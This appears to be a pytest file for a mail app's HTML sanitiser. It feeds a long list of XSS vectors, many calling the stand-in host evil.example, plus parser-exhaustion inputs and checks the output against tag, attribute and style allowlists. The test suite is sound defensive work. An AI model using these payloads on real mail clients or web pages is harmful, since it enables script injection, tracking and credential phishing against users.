"""Hostile HTML through the whole pipeline: nothing active is left, nothing loads, nothing leaves the mail area.

ui.md 9 and mail.md 5. The results are read again by two other parsers (libxml2 and html.parser) and drawn by a real
QTextBrowser that writes down what it asks for.
"""

from __future__ import annotations

import email
import json
import os
import re
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

import lxml.html
import pytest

from desk_app.channels.content.pipeline import prepare
from desk_app.channels.content.plain import html_to_text
from desk_app.domain.messages.content import PreparedContent
from desk_app.domain.messages.model import ParsedAttachment, ParsedMessage

SHARED = Path(__file__).resolve().parents[3] / "shared"
VECTORS = SHARED / "corpora" / "xss" / "dompurify_vectors.json"

ALLOWED_TAGS = frozenset(
    [
        "a",
        "abbr",
        "address",
        "article",
        "aside",
        "b",
        "big",
        "blockquote",
        "body",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "font",
        "footer",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hr",
        "html",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "main",
        "mark",
        "nav",
        "ol",
        "p",
        "pre",
        "q",
        "s",
        "samp",
        "section",
        "small",
        "span",
        "strike",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "tr",
        "tt",
        "u",
        "ul",
        "var",
        "wbr",
    ]
)
ALLOWED_ATTRIBUTES = frozenset(
    [
        "align",
        "alt",
        "bgcolor",
        "border",
        "cellpadding",
        "cellspacing",
        "color",
        "colspan",
        "dir",
        "face",
        "height",
        "href",
        "rowspan",
        "size",
        "span",
        "src",
        "start",
        "style",
        "title",
        "type",
        "valign",
        "width",
    ]
)
LINKS = re.compile(r"(?:https?://[^\s\\/]|mailto:|tel:)", re.IGNORECASE)
PICTURES = re.compile(r"(?:cid:[^\s]+|remote:\d+|data:image/(?:png|gif|jpe?g|webp|bmp);base64,[A-Za-z0-9+/=]*)\Z")
BAD_STYLE = re.compile(
    r"url|expression|image-set|@|\\|/\*|position|z-index|behaviou?r|binding|float|(?<!text-)transform|content|cursor|var\(|(?<![a-z0-9#])-\d",
    re.IGNORECASE,
)
BIG = re.compile(r"(?<![#0-9a-fA-F])\d{5,}")

OWN_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x20type='text/javascript'>javascript:alert(1);</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\x00=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1) background=http://evil.example/b.png>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&nbsp;javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='DATA:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='\\\\evil.example\\share'>x</a>",
    "<a href='//evil.example/share'>x</a>",
    "<a href='http:\\\\evil.example\\x'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:http://x'>x</a>",
    "<a href='ms-msdt:/id PCWDiagnostic'>x</a>",
    "<a href='search-ms:query=x&crumb=location:\\\\evil'>x</a>",
    "<a href='http://x.example' target=_blank ping=http://evil.example/p>x</a>",
    "<a href='http://good.example\u202egro.knab//:ptth'>bidi</a>",
    "<img src='file://///evil.example/share/a.png'>",
    "<img src='\\\\evil.example\\share\\a.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='cid:not-here@x' alt=gone>",
    "<img src='cid:../../etc/passwd'>",
    "<img srcset='http://evil.example/1.png 1x, http://evil.example/2.png 2x' sizes=1px>",
    "<img src=http://t.example/pixel.gif width=1 height=1>",
    "<img src=http://t.example/pixel.gif style='width:1px;height:1px'>",
    "<img src=http://t.example/pixel.gif style='display:none'>",
    "<picture><source srcset=http://evil.example/a.webp><img src=http://evil.example/a.png></picture>",
    "<video src=http://evil.example/v poster=http://evil.example/p><track src=x></video>",
    "<audio src=http://evil.example/a autoplay></audio>",
    "<input type=image src=http://evil.example/i onfocus=alert(1) autofocus>",
    "<form action=http://evil.example><input name=password><button formaction=javascript:a()>Log in</button></form>",
    "<select><option>one<option>two</select><textarea>text</textarea><keygen>",
    "<isindex action=javascript:alert(1) prompt=x>",
    "<iframe src=http://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/x.swf><embed src=http://evil.example/x.swf></object>",
    "<applet code=evil.class></applet><frameset><frame src=http://evil.example></frameset>",
    "<link rel=stylesheet href=http://evil.example/x.css><link rel=prefetch href=http://evil.example/p>",
    "<base href='javascript:/a/../'><a href='x'>y</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<style>@import 'http://evil.example/x.css'; p{background:url(http://evil.example/b)}</style><p>x</p>",
    "<style>p{position:fixed;top:0;left:0;z-index:99999;width:100000px;height:100000px}</style><p>over</p>",
    "<div style='background:url(http://evil.example/b.png)'>x</div>",
    "<div style='background:\\75\\72\\6c(http://evil.example)'>x</div>",
    "<div style='background:u/**/rl(http://evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(http://evil.example/x.xml#a)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='background-image:image-set(\"http://evil.example/1.png\" 1x)'>x</div>",
    "<div style='list-style:url(http://evil.example/l)'>x</div>",
    "<div style='margin-left:-9999px;margin:-50px;text-indent:-999em'>x</div>",
    "<div style='font-size:99999px;padding:99999px;width:9999999px'>x</div>",
    "<div style='color:red;/*;*/position:absolute'>x</div>",
    "<div style='font-family:\"a;position:fixed;b\"'>x</div>",
    "<div style='color:var(--x);--x:url(http://evil.example)'>x</div>",
    "<table background=http://evil.example/b width=9999999 cellpadding=99999><tr><td colspan=99999>x</table>",
    "<font color='red;position:fixed' size='9999' face='x\";position:fixed'>x</font>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a><image href=http://evil.example/></svg>",
    "<svg><foreignObject><iframe src=http://evil.example></foreignObject></svg>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(2)></noframes>",
    "<template><script>alert(1)</script><img src=http://evil.example/t></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><listing><script>alert(1)</script></listing>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<!--[if mso]><script>alert(1)</script><v:rect fill=t><v:fill src=http://evil.example/v></v:rect><![endif]-->x",
    "<![if !mso]><p>shown</p><![endif]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='http://evil.example/x.xsl'?><p>x</p>",
    "<v:roundrect href=javascript:alert(1) onclick=alert(1)>vml</v:roundrect><o:p>office</o:p>",
    "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>",
    "<div id=app name=config class=toolbar>clobber</div><a name=getElementById>x</a>",
    "<p contenteditable onpaste=alert(1) accesskey=x tabindex=1 draggable=true>x</p>",
    "<marquee onstart=alert(1)>m</marquee><details open ontoggle=alert(1)><summary>s</summary>d</details>",
    "<dialog open>d</dialog><portal src=http://evil.example></portal><fencedframe src=http://evil.example>",
    "<bgsound src=http://evil.example/b><layer src=http://evil.example/l>",
    "<table><tr><td><table><caption><select><style></select></style><img src=x onerror=alert(1)>",
    "<b><a href=1><table><a href=2><td></b><i>x</a>y",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "\ufeff\x00<\x00s\x00c\x00r\x00i\x00p\x00t>alert(1)</script>",
    "<p>\u202e\u2066moc.elpmaxe\u2069 &#xd800; &#x0; &#x1; &#xfffe;</p>",
    "<a href='http://evil.example/'>https://bank.example/login</a>",
    "<p style='opacity:0;font-size:0'>hidden words</p><p style='mso-hide:all'>preheader</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>>alert(1)<</script>>",
    "<a\x0bhref='javascript:alert(1)'\x0bonclick=alert(1)>x</a>",
    "<img src=`x` onerror=`alert(1)`>",
    '<p title="a" title="b" onclick="x" style="color:red" style="position:fixed">x</p>',
]

HUGE = {
    "tables nested 10,000 deep": "<table><tr><td>x" * 10_000,
    "blockquotes nested 100,000 deep": "<blockquote>x" * 100_000,
    "divs closed in the wrong scope": "<div><object>x</div></object>" * 20_000,
    "formatting never closed": "<b><i><font size=1><p>x" * 10_000,
    "one line of 5 MB": "word " * 1_000_000,
    "5 MB without a blank": "x" * 5_000_000,
    "half a million stray brackets": "<" * 500_000,
    "unclosed comments": "<!--" * 200_000,
    "unclosed styles": "<style>" * 100_000,
    "a tag with 50,000 attributes": "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">x",
    "a style of 1 MB": f"<p style='{'color:red;' * 100_000}'>x",
    "20,000 style rules and elements": "<style>" + "p b{color:red}" * 20_000 + "</style>" + "<p><b>x</b></p>" * 20_000,
    "a table of 10,000 columns and rows": "<table><tr>" + "<td>x" * 10_000 + "<tr><td>y" * 10_000 + "</table>",
    "100,000 links": "<a href=http://x.example>x</a>" * 100_000,
    "100,000 pictures": "<img src=http://x.example/a>" * 100_000,
    "entities": "&amp;" * 500_000,
    "unterminated attribute": "<p title='" + "x" * 1_000_000,
}


class Inspector(HTMLParser):
    """Reads markup the way a lenient browser would and notes every tag."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!comment", []))

    def handle_decl(self, decl: str) -> None:
        self.tags.append(("!declaration", []))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("?instruction", []))


def tags_of(markup: str) -> Iterator[tuple[str, dict[str, str]]]:
    inspector = Inspector()
    inspector.feed(markup)
    inspector.close()
    for tag, attributes in inspector.tags:
        yield tag, {name: value or "" for name, value in attributes}
    if markup.strip():
        parser = lxml.html.HTMLParser(huge_tree=True)
        for element in lxml.html.document_fromstring(f"<div>{markup}</div>", parser=parser).iter():
            yield str(element.tag), {str(name): str(value) for name, value in element.attrib.items()}


def faults_in(markup: str) -> list[str]:
    """Name everything a mail view must never be given."""
    found = []
    for tag, attributes in tags_of(markup):
        if tag not in ALLOWED_TAGS:
            found.append(f"element {tag}")
        for name, value in attributes.items():
            if name not in ALLOWED_ATTRIBUTES:
                found.append(f"attribute {tag} {name}")
            elif name == "href" and not LINKS.match(value):
                found.append(f"link {value!r}")
            elif name == "src" and not (tag == "img" and PICTURES.match(value)):
                found.append(f"source {value!r}")
            elif name == "style" and (BAD_STYLE.search(value) or BIG.search(value)):
                found.append(f"style {value!r}")
            elif name in {"width", "height", "colspan", "rowspan", "cellpadding", "cellspacing"} and BIG.search(value):
                found.append(f"size {name} {value}")
    return found


def prepared(html: str, **more: object) -> PreparedContent:
    return prepare(ParsedMessage(html=html, **more))  # type: ignore[arg-type]


def assert_harmless(html: str) -> PreparedContent:
    content = prepared(html)
    for half in (content.safe_html, content.visible_html, content.folded_html):
        assert faults_in(half) == []
    for address in content.remote_images:
        assert re.match(r"https?://[^\s\\/]", address)
    again = prepared(content.safe_html)
    assert again.safe_html == content.safe_html
    return content


def dompurify_vectors() -> list[str]:
    if not VECTORS.exists():
        return []
    return [vector["payload"] for vector in json.loads(VECTORS.read_text(encoding="utf-8"))]


@pytest.mark.corpora
def test_no_vector_of_dompurify_leaves_anything_active() -> None:
    vectors = dompurify_vectors()
    if not vectors:
        pytest.skip("../shared/corpora/xss is not here")
    assert len(vectors) > 200
    for vector in vectors:
        assert_harmless(vector)


@pytest.mark.parametrize("vector", OWN_VECTORS)
def test_no_vector_of_our_own_leaves_anything_active(vector: str) -> None:
    assert_harmless(vector)


@pytest.mark.parametrize("vector", OWN_VECTORS)
def test_vectors_inside_quotes_tables_and_attributes(vector: str) -> None:
    assert_harmless(f"<p>Hello</p><table bgcolor=red><tr><td>{vector}</td></tr></table>")
    assert_harmless(f"<p>Hello</p><blockquote type=cite class=gmail_quote>{vector}</blockquote>")
    assert_harmless(f'<p title="{vector}">x</p><style>{vector}</style><a href="{vector}">y</a>')


@pytest.mark.parametrize("name", HUGE)
def test_huge_and_deep_mails_end_in_time_and_keep_their_words(name: str) -> None:
    started = time.process_time()
    content = prepared(HUGE[name])
    assert time.process_time() - started < 30  # a bound on runaway behaviour, not a measurement
    assert faults_in(content.visible_html[:200_000].rpartition("<")[0]) == []
    words = {"x", "word"} & set(HUGE[name].replace("<", " ").replace(">", " ").split())
    for word in words:
        assert word in content.visible_text
        assert word in content.visible_html


def test_all_vectors_in_one_mail() -> None:
    assert_harmless("\n".join([*OWN_VECTORS[:70], *dompurify_vectors()]))


def test_in_26_a_link_that_names_another_host_is_told() -> None:
    content = prepared("<a href='http://evil.example/'>https://bank.example/login</a>")
    assert content.deceptive_links == (("bank.example", "evil.example"),)


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx"
    b"\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
)


def test_the_mail_view_is_asked_for_parts_and_numbered_pictures_only() -> None:
    from PySide6.QtCore import QUrl
    from PySide6.QtWidgets import QApplication, QTextBrowser

    application = QApplication.instance() or QApplication([])
    asked: list[str] = []

    class Recorder(QTextBrowser):
        def loadResource(self, kind: int, name: QUrl) -> object:  # noqa: N802 -- Qt's name
            asked.append(name.toString())
            return b""

    view = Recorder()
    view.resize(700, 500)
    view.show()
    part = ParsedAttachment("1.2", "a.png", "image/png", PNG, "", content_id="logo@x")
    benign = "<p>Hi <img src=cid:logo@x> <img src=http://pictures.example/a.png width=300></p>"
    for vector in [benign, *OWN_VECTORS, *dompurify_vectors()]:
        content = prepared(vector, attachments=(part,))
        for half in (content.visible_html, content.folded_html):
            view.setHtml(half)
            view.document().setTextWidth(700)
            view.document().size()
            application.processEvents()
    view.close()
    view.deleteLater()
    application.processEvents()
    assert {"cid:logo@x", "remote:0"} <= set(asked)
    strange = [name for name in asked if not name.startswith(("cid:", "remote:", "data:image/"))]
    assert strange == []


def html_bodies() -> Iterator[tuple[str, str]]:
    """Yield the HTML of every corpus mail the standard library can take apart, with the name of its file."""
    for path in sorted((SHARED / "corpora" / "mail").glob("*/*.eml")):
        try:
            for part in email.message_from_bytes(path.read_bytes()).walk():
                if part.get_content_type() == "text/html":
                    raw = part.get_payload(decode=True)
                    yield path.name, raw.decode("utf-8", "replace") if isinstance(raw, bytes) else ""
        except (RecursionError, LookupError, ValueError, TypeError, AttributeError):
            continue


class Words(HTMLParser):
    """Collects the words of a mail that a reader sees; hidden parts are recognised by their style attribute."""

    UNSEEN = frozenset({"script", "style", "title", "svg", "math", "template", "iframe", "head"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words: set[str] = set()
        self.unseen: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        style = "".join((dict(attrs).get("style") or "").lower().split())
        if tag == "body":
            self.unseen.clear()
        elif (
            tag in self.UNSEEN
            or (self.unseen and tag == self.unseen[-1])
            or re.search(r"display:none|mso-hide:all|font-size:0|visibility:hidden", style)
        ):
            self.unseen.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.unseen and tag == self.unseen[-1]:
            self.unseen.pop()

    def handle_data(self, data: str) -> None:
        if not self.unseen:
            self.words.update(re.findall(r"\w{2,}", data))


# what html.parser takes for text in a tag that is broken in the middle, and HTML5 for attributes
BROKEN_MARKUP = {"error_emails__cant_parse_from.eml"}


@pytest.mark.corpora
def test_real_mails_are_harmless_in_time_and_lose_no_word() -> None:
    bodies = list(html_bodies())
    if not bodies:
        pytest.skip("../shared/corpora/mail is not here")
    assert len(bodies) > 50
    for name, html in bodies:
        started = time.process_time()
        content = assert_harmless(html)
        assert time.process_time() - started < 20, name  # the pipeline twice and four parsers; a generous bound
        if name in BROKEN_MARKUP:
            continue
        reader = Words()
        reader.feed(html)
        reader.close()
        text = f"{content.visible_text}\n{content.folded_text}"
        shown = html_to_text(content.visible_html) + html_to_text(content.folded_html)
        for half in (text, shown):
            assert sorted(word for word in reader.words if word not in half) == [], name


@pytest.mark.corpora
@pytest.mark.parametrize("kind", ["text/plain", "text/html"])
def test_mail_md_4_talon_replies_show_their_first_line_only(kind: str) -> None:
    replies = sorted((SHARED / "corpora" / "mail" / "talon").glob("standard_replies__*.eml"))
    if not replies:
        pytest.skip("../shared/corpora/mail/talon is not here")
    for path in replies:
        for part in email.message_from_bytes(path.read_bytes()).walk():
            if part.get_content_type() != kind:
                continue
            body = part.get_payload(decode=True).decode("utf-8", "replace")  # type: ignore[union-attr]
            message = ParsedMessage(html=body) if kind == "text/html" else ParsedMessage(text=body)
            content = prepare(message)
            shown = html_to_text(content.visible_html).strip()
            assert shown in {"Hello", "Allo! Follow up MIME!"}, path.name
            assert content.visible_text.strip() in {shown, "Hello"}, path.name
            assert html_to_text(content.folded_html).strip(), path.name
